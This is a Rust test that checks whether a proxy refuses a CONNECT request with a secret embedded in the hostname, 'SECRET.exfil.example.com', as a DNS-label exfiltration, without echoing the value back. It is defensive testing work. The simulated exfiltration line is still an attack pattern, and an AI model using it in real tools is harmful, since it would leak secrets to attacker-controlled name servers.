//! A tool hides a secret in the host name it asks to CONNECT to (a DNS-label exfiltration: the name alone reaches
//! the attacker's name server once anything resolves it).

use super::leak_common::{SECRET, harness};

#[test]
fn a_secret_in_a_connect_authority_is_refused_as_a_leak_before_anything_is_resolved() {
    let h = harness();
    let proxy = h.proxy;
    let response = h.runtime.block_on(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let mut s = tokio::net::TcpStream::connect(proxy).await.unwrap();
        let host = format!("{SECRET}.exfil.example.com:443");
        s.write_all(format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes()).await.unwrap();
        let mut buf = vec![0u8; 8192];
        let n = s.read(&mut buf).await.unwrap();
        String::from_utf8_lossy(&buf[..n]).to_string()
    });
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert!(response.contains("\"kind\":\"leak\""), "refused as a leak, not just as an unknown host: {response}");
    assert!(!response.contains(SECRET), "the refusal echoed the value: {response}");
}
